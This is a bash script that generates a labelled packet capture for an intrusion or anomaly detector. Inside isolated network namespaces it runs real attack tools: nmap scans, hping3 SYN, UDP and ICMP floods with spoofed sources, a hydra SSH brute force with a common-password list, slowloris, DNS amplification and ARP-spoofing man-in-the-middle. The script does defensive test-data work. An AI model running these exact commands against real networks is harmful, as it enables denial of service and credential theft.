#!/usr/bin/env bash
# record-attacks.sh OUTDIR [--duration-scale X] [--no-install]
# record-attacks.sh --plan [--duration-scale X]   (planned length; no root needed)
#
# Records benign traffic and real attack tools on a private, isolated test
# network and writes
#
#   OUTDIR/realtools.pcap        the capture (tcpdump, snaplen 256, on the bridge)
#   OUTDIR/realtools.labels.csv  start,end,type,source of every attack, for
#                                `netanomaly_exporter train|evaluate --labels`
#   OUTDIR/realtools.meta        key=value: phase times (train_end, ...), scale
#   OUTDIR/realtools.summary.txt what was recorded, attack times, skipped tools
#   OUTDIR/realtools-logs/       the output of every tool run
#
# The network (scripts/lab.sh, shared with record-corpus.sh) lives entirely
# in network namespaces this script creates (na-rec-<pid>-*): hosts victim, router, attacker, client1-3 on a Linux
# bridge in a namespace of its own, and a "wan" namespace behind the router
# with DNS reflectors. Addresses are 10.213.0.0/24 and fd00:213::/64 on the
# LAN and 10.213.1.0/24 behind the router; no namespace has a default route,
# nothing is routed out of them and every target is one of these hosts.
#
# Timeline, at scale 1 (--duration-scale multiplies the warm-up, the gaps and
# the long attacks; 0.3 is the CI setting, about 8 minutes):
#   benign background (HTTP, DNS, SSH from 8 client addresses) all the time;
#   6 min 40 s benign-only warm-up (train_end in realtools.meta marks its
#   end), 40 s more; then 10 attacks, each bounded in count and time, 90 s of
#   benign traffic apart: nmap -sS, nmap -sn sweep, hping3 SYN, UDP and ICMP
#   floods, hydra against sshd, slowhttptest slowloris, DNS amplification
#   through real dnsmasq reflectors, ARP spoofing, and a traffic spike of
#   parallel curls; 30 s of benign traffic to end. About 25 minutes.
#
# Labels: the times are taken with `date +%s.%N` right before and after each
# tool run, then narrowed to the first and last packet of the attack seen in
# the capture (attacker's MAC, or the reflectors' network) with 10 ms either
# side, so no labelled window is without attack packets. The traffic spike,
# whose packets look like the benign ones, keeps the tool times.
# An attack whose packets never show up is reported and not labelled.
#
# Needs root. Installs missing tools with apt-get unless --no-install (with
# services kept from starting on the host). Everything it creates is removed
# on exit, also on failure or Ctrl-C. RECORD_ATTACKS=name,name limits the
# attacks run (names: portscan sweep synflood udpflood icmpflood bruteforce
# slowloris dnsamp arpspoof spike), for debugging.
set -euo pipefail

usage() {
	sed -n '2,3p' "$0" | sed 's/^# \{0,1\}//' >&2
	echo "run with -h for the description" >&2
	exit 2
}

OUTDIR=""
SCALE=1
INSTALL=1
PLAN=0
while [ $# -gt 0 ]; do
	case "$1" in
	--duration-scale) [ $# -ge 2 ] || usage; SCALE=$2; shift 2 ;;
	--duration-scale=*) SCALE=${1#*=}; shift ;;
	--no-install) INSTALL=0; shift ;;
	--plan) PLAN=1; shift ;;
	-h | --help) sed -n '2,/^set -euo/p' "$0" | sed '$d; s/^# \{0,1\}//'; exit 0 ;;
	-*) echo "record-attacks.sh: unknown option $1" >&2; usage ;;
	*) [ -z "$OUTDIR" ] || usage; OUTDIR=$1; shift ;;
	esac
done
[ -n "$OUTDIR" ] || [ "$PLAN" -eq 1 ] || usage
if ! awk -v s="$SCALE" 'BEGIN { exit !(s ~ /^[0-9]*\.?[0-9]+$/ && s > 0 && s <= 10) }'; then
	echo "record-attacks.sh: --duration-scale must be a number in (0, 10], got '$SCALE'" >&2
	exit 2
fi
# scaled BASE [MIN]: BASE seconds times the scale, at least MIN, rounded.
scaled() { awk -v b="$1" -v s="$SCALE" -v m="${2:-1}" 'BEGIN { v = b * s; if (v < m) v = m; printf "%d", v + 0.5 }'; }
WARMUP=$(scaled 400 60)    # benign only: the training part
PRE_GAP=$(scaled 40 10)    # benign before the first attack
GAP=$(scaled 90 15)        # benign between attacks
TAIL=$(scaled 30 10)       # benign after the last attack
HYDRA_SECS=$(scaled 40 12) # brute force time limit
SLOW_SECS=$(scaled 60 35)  # slowloris length (a connection is idle after 20 s)
ARP_ROUNDS=$(scaled 30 8)  # ARP spoofing: one round a second
SPIKE_SECS=$(scaled 50 15) # traffic spike length
# Setup, attacks that do not scale (scans, floods, reflection: about 25 s),
# the scaled ones, gaps, teardown.
PLANNED=$((5 + WARMUP + PRE_GAP + 9 * GAP + 25 + HYDRA_SECS + SLOW_SECS + ARP_ROUNDS + 2 + SPIKE_SECS + TAIL + 5))
if [ "$PLAN" -eq 1 ]; then
	echo "planned_seconds=$PLANNED"
	echo "warmup=$WARMUP pre_gap=$PRE_GAP gap=$GAP tail=$TAIL hydra=$HYDRA_SECS slowloris=$SLOW_SECS arp_rounds=$ARP_ROUNDS spike=$SPIKE_SECS"
	exit 0
fi
if [ "$(id -u)" -ne 0 ]; then
	echo "record-attacks.sh: must run as root: it creates network namespaces and runs packet tools (try sudo)" >&2
	exit 1
fi

# The test network: addresses, namespaces, services, benign loops, cleanup.
# shellcheck source=lab.sh
. "$(dirname "${BASH_SOURCE[0]}")/lab.sh"

lab_install_missing "$INSTALL"
for c in ip tcpdump timeout curl; do have "$c" || die "$c is required and not installed"; done

mkdir -p "$OUTDIR"
OUTDIR=$(cd "$OUTDIR" && pwd)
PCAP=$OUTDIR/realtools.pcap
LABELS=$OUTDIR/realtools.labels.csv
META=$OUTDIR/realtools.meta
SUMMARY=$OUTDIR/realtools.summary.txt
LOGDIR=$OUTDIR/realtools-logs
LAB_LOGDIR=$LOGDIR
rm -rf "$LOGDIR" && mkdir -p "$LOGDIR"
rm -f "$PCAP" "$LABELS" "$META" "$SUMMARY"
T_BEGIN=$(now)

lab_begin
lab_network

log "capturing on br0 in $NS_SW"
lab_capture_start "$PCAP"
T_CAPTURE=$(now)

lab_services

T_BACKGROUND=$(now)
# The loops' deadline: the planned length with a generous margin. Clients
# differ: 1.5 to 3.6 s between requests.
lab_start_benign $((EPOCHSECONDS + PLANNED + 900)) 1500 700 1000 25000 75000

log "benign-only warm-up: ${WARMUP}s"
pause "$WARMUP"
T_TRAIN_END=$(now)
log "warm-up done; ${PRE_GAP}s more benign traffic before the first attack"
pause "$PRE_GAP"

# ---------------------------------------------------------------- attacks
ATTACKS=$RUN/attacks.raw
: >"$ATTACKS"
selected() { [ -z "${RECORD_ATTACKS:-}" ] || [[ ",$RECORD_ATTACKS," == *",$1,"* ]]; }
first_attack=1
# attack NAME TYPE SOURCE SELECTOR CMD...: runs CMD (already bounded) and
# notes its start and end times. SELECTOR says which packets in the capture
# belong to the attack: atk (the attacker's MAC), wan (the reflectors'
# network), none (keep the tool times).
attack() {
	local name=$1 type=$2 src=$3 sel=$4 t0 t1 rc
	shift 4
	if [ "$first_attack" -eq 0 ]; then
		log "gap ${GAP}s"
		pause "$GAP"
	fi
	first_attack=0
	log "attack $name ($type): $*"
	t0=$(now)
	"$@" >"$LOGDIR/$name.log" 2>&1 &
	CUR_PID=$!
	wait "$CUR_PID" && rc=0 || rc=$?
	CUR_PID=""
	t1=$(now)
	log "  done in $(awk -v a="$t0" -v b="$t1" 'BEGIN { printf "%.1f", b - a }')s, exit $rc"
	echo "$name,$type,$t0,$t1,$sel,$src,$rc" >>"$ATTACKS"
}
skip() { SKIPPED+=("$1: $2"); log "skipping $1: $2"; }

# Parallel hping3 runs in one namespace; waits for all.
hping_many() { # hping_many NS "ARGS" "ARGS"...
	local ns=$1 a pids=()
	shift
	for a in "$@"; do
		# shellcheck disable=SC2086 # each argument string is a list of hping3 options
		timeout 120 ip netns exec "$ns" hping3 $a &
		pids+=($!)
	done
	local rc=0 p
	for p in "${pids[@]}"; do wait "$p" || rc=$?; done
	return "$rc"
}

spike() { # spike SECONDS: every client address downloads in 3 parallel loops
	local until=$((EPOCHSECONDS + $1)) pids=() ch i h k
	for ch in "${CLIENT_HOSTS[@]}"; do
		i=${ch%%:*} h=${ch#*:}
		for k in 1 2 3; do
			timeout $(($1 + 20)) ip netns exec "${NS_CLIENTS[$i]}" bash -c 'spike_loop "$@"' _ "$LAN4.$h" "$until" &
			pids+=($!)
		done
	done
	for k in "${pids[@]}"; do wait "$k" || true; done
}

if selected portscan; then
	if have nmap; then
		attack portscan port_scan "$ATTACKER" atk \
			timeout 180 ip netns exec "$NS_ATTACKER" nmap -n -Pn -sS -T4 --top-ports 1000 --max-retries 1 "$VICTIM"
	else skip portscan "nmap not installed"; fi
fi
if selected sweep; then
	if have nmap; then
		attack sweep port_scan "$ATTACKER" atk \
			timeout 180 ip netns exec "$NS_ATTACKER" nmap -n -sn -T4 "$LAN4.0/24"
	else skip sweep "nmap not installed"; fi
fi
if selected synflood; then
	if have hping3; then
		# 25000 SYNs to port 80 from four unused LAN addresses (spoofed; the
		# victim's SYN-ACKs find no one), up to 10000 per second in all.
		args=()
		for s in "${SPOOFED[@]}"; do args+=("-q -n -S -p 80 -a $s -c 6250 -i u400 $VICTIM"); done
		attack synflood syn_flood "$LAN4.200/30" atk hping_many "$NS_ATTACKER" "${args[@]}"
	else skip synflood "hping3 not installed"; fi
fi
if selected udpflood; then
	if have hping3; then
		attack udpflood udp_flood "$ATTACKER" atk \
			hping_many "$NS_ATTACKER" "-q -n --udp -p 7777 -d 200 -c 25000 -i u100 $VICTIM"
	else skip udpflood "hping3 not installed"; fi
fi
if selected icmpflood; then
	if have hping3; then
		attack icmpflood icmp_flood "$ATTACKER" atk \
			hping_many "$NS_ATTACKER" "-q -n --icmp -d 56 -c 25000 -i u100 $VICTIM"
	else skip icmpflood "hping3 not installed"; fi
fi
if selected bruteforce; then
	if [ "$HAVE_SSH" -eq 0 ]; then
		skip bruteforce "no sshd"
	elif have hydra; then
		printf '%s\n' admin test guest oracle ubuntu pi >"$RUN/users.txt"
		printf '%s\n' 123456 password 12345678 qwerty 123456789 12345 1234 111111 1234567 dragon \
			123123 baseball abc123 football monkey letmein 696969 shadow master 666666 \
			qwertyuiop 123321 mustang 1234567890 michael 654321 superman 1qaz2wsx 7777777 121212 \
			000000 qazwsx 123qwe killer trustno1 jordan jennifer zxcvbnm asdfgh hunter \
			buster soccer harley batman andrew tigger sunshine iloveyou 2000 charlie >"$RUN/words.txt"
		# hydra writes hydra.restore into its working directory: run it in $RUN.
		# -w 2: hydra 9.4 hangs on a connection sshd closed after MaxAuthTries
		# (6) failures; after 2 s it gives up on it and reconnects.
		hydra_run() {
			cd "$RUN" && timeout "$HYDRA_SECS" ip netns exec "$NS_ATTACKER" hydra -I -t 4 -w 2 \
				-L "$RUN/users.txt" -P "$RUN/words.txt" -o "$RUN/hydra.out" "ssh://$VICTIM"
		}
		attack bruteforce brute_force "$ATTACKER" atk hydra_run
	else
		skip bruteforce "hydra not installed"
	fi
fi
if selected slowloris; then
	if have slowhttptest; then
		attack slowloris slowloris "$ATTACKER" atk \
			timeout $((SLOW_SECS + 40)) ip netns exec "$NS_ATTACKER" slowhttptest -c 300 -H -i 10 -r 50 \
			-l "$SLOW_SECS" -t GET -x 24 -p 3 -u "http://$VICTIM/index.html"
	else skip slowloris "slowhttptest not installed"; fi
fi
if selected dnsamp; then
	if have dnsmasq && have hping3; then
		# Real reflection: an open resolver answers a 45-byte EDNS query for a
		# large TXT record with about 1.1 kB. The attacker sits behind the
		# router with the reflectors and spoofs the victim's address: the LAN
		# sees only the answers, from port 53 of four reflectors.
		if lab_dns_reflectors; then
			qlen=$(stat -c %s "$RUN/query-txt.bin")
			args=()
			for r in "${REFLECTORS[@]}"; do
				args+=("-q -n --udp -a $VICTIM -s 20000 -p 53 -E $RUN/query-txt.bin -d $qlen -c 2500 -i u2000 $r")
			done
			attack dnsamp dns_amplification "$WAN4.0/24" wan hping_many "$NS_WAN" "${args[@]}"
		else
			skip dnsamp "the reflector dnsmasq did not answer"
		fi
	else skip dnsamp "dnsmasq or hping3 not installed"; fi
fi
if selected arpspoof; then
	if [ -n "$PY" ]; then
		# ARP spoofing as arpspoof/ettercap do it: every second, tell the whole
		# LAN (gratuitous reply) that the router's IPv4 address is at the
		# attacker's MAC, and tell the router that the victim's is; the
		# attacker forwards what it gets (man in the middle). At the end,
		# re-ARP the true addresses.
		arp_mitm() {
			nsx "$NS_ATTACKER" sysctl -qw net.ipv4.ip_forward=1
			local rc=0
			timeout $((ARP_ROUNDS + 30)) ip netns exec "$NS_ATTACKER" "$PY" "$LABTOOLS/arpspoof.py" eth0 "$ATTACKER_MAC" 1 "$ARP_ROUNDS" \
				"$ROUTER/$ROUTER_MAC@$ROUTER/ff:ff:ff:ff:ff:ff" "$VICTIM/$VICTIM_MAC@$ROUTER/$ROUTER_MAC" || rc=$?
			nsx "$NS_ATTACKER" sysctl -qw net.ipv4.ip_forward=0
			return "$rc"
		}
		attack arpspoof arp_spoofing "$ATTACKER" atk arp_mitm
	elif have arping; then
		# Without python3: arping's gratuitous replies claiming the router's
		# address (the LAN-wide half of the above, no MITM, no re-ARP).
		attack arpspoof arp_spoofing "$ATTACKER" atk \
			timeout $((ARP_ROUNDS + 30)) ip netns exec "$NS_ATTACKER" arping -q -i eth0 -U -P -S "$ROUTER" \
			-c "$ARP_ROUNDS" -W 1 "$ROUTER"
	else skip arpspoof "neither python3 nor arping installed"; fi
fi
if selected spike; then
	attack spike traffic_spike "" none spike "$SPIKE_SECS"
fi

log "tail: ${TAIL}s of benign traffic"
pause "$TAIL"
T_END=$(now)
lab_stop_benign
sleep 1
lab_capture_stop
T_STOP=$(now)

# ---------------------------------------------------------------- labels
# First and last packet of each attack inside its tool's run.
have_pkts() { # have_pkts FILTER > times
	{ tcpdump -r "$PCAP" -nn -tt "$1" 2>/dev/null || true; } | awk '{ print $1 }'
}
have_pkts "ether host $ATTACKER_MAC" >"$RUN/atk.times"
have_pkts "net $WAN4.0/24" >"$RUN/wan.times"
echo "start,end,type,source" >"$LABELS"
REPORT=$RUN/report.txt
: >"$REPORT"
while IFS=, read -r name type t0 t1 sel src rc; do
	if [ "$sel" = none ]; then
		range="$t0 $t1 0"
	else
		range=$(awk -v a="$t0" -v b="$t1" '$1 >= a && $1 <= b { if (!n++) f = $1; l = $1 } END { printf "%s %s %d", f, l, n }' "$RUN/$sel.times")
	fi
	read -r f l cnt <<<"$range"
	if [ "$sel" != none ] && [ "$cnt" -eq 0 ]; then
		printf '  %-10s %-18s NOT LABELLED: no attack packets in the capture (tool exit %s, see %s)\n' \
			"$name" "$type" "$rc" "$LOGDIR/$name.log" >>"$REPORT"
		continue
	fi
	awk -v f="$f" -v l="$l" -v sel="$sel" -v ty="$type" -v src="$src" 'BEGIN {
		pad = (sel == "none") ? 0 : 0.01
		printf "%.6f,%.6f,%s,%s\n", f - pad, l + pad, ty, src
	}' >>"$LABELS"
	awk -v name="$name" -v ty="$type" -v t0="$t0" -v t1="$t1" -v f="$f" -v l="$l" -v n="$cnt" -v sel="$sel" -v rc="$rc" 'BEGIN {
		s = (sel == "none") ? "tool run" : sprintf("%d attack packets", n)
		printf "  %-10s %-18s %s  %6.1fs labelled (tool ran %.1fs, exit %s), %s\n", name, ty,
			strftime("%H:%M:%S", f), l - f, t1 - t0, rc, s
	}' >>"$REPORT"
done <"$ATTACKS"

cat >"$META" <<EOF
# record-attacks.sh run: Unix epoch seconds
scale=$SCALE
capture_start=$T_CAPTURE
background_start=$T_BACKGROUND
train_end=$T_TRAIN_END
capture_end=$T_END
EOF

# ---------------------------------------------------------------- summary
stats=$(grep -E 'packets (captured|received by filter|dropped by kernel)' "$RUN/tcpdump.err" | tr '\n' ',' | sed 's/,$//; s/,/, /g')
{
	echo "record-attacks.sh: $(awk -v a="$T_BEGIN" -v b="$T_STOP" 'BEGIN { printf "%.0f s (%.1f min)", b - a, (b - a) / 60 }') at scale $SCALE"
	echo "capture: $PCAP ($(du -h "$PCAP" | cut -f1)): ${stats:-no tcpdump statistics}"
	echo "benign warm-up for training: $(date -d "@${T_BACKGROUND%.*}" +%H:%M:%S) to $(date -d "@${T_TRAIN_END%.*}" +%H:%M:%S) (${WARMUP}s); capture ends $(date -d "@${T_END%.*}" +%H:%M:%S)"
	echo "attacks (labels in $LABELS):"
	cat "$REPORT"
	echo "  (exit 1 from hping3: nothing answered, as for spoofed or unanswered floods; 124: stopped by its time limit)"
	for s in "${SKIPPED[@]}"; do echo "skipped: $s"; done
	echo "not produced: traffic_drop, reflection (other than DNS)"
} | tee "$SUMMARY"
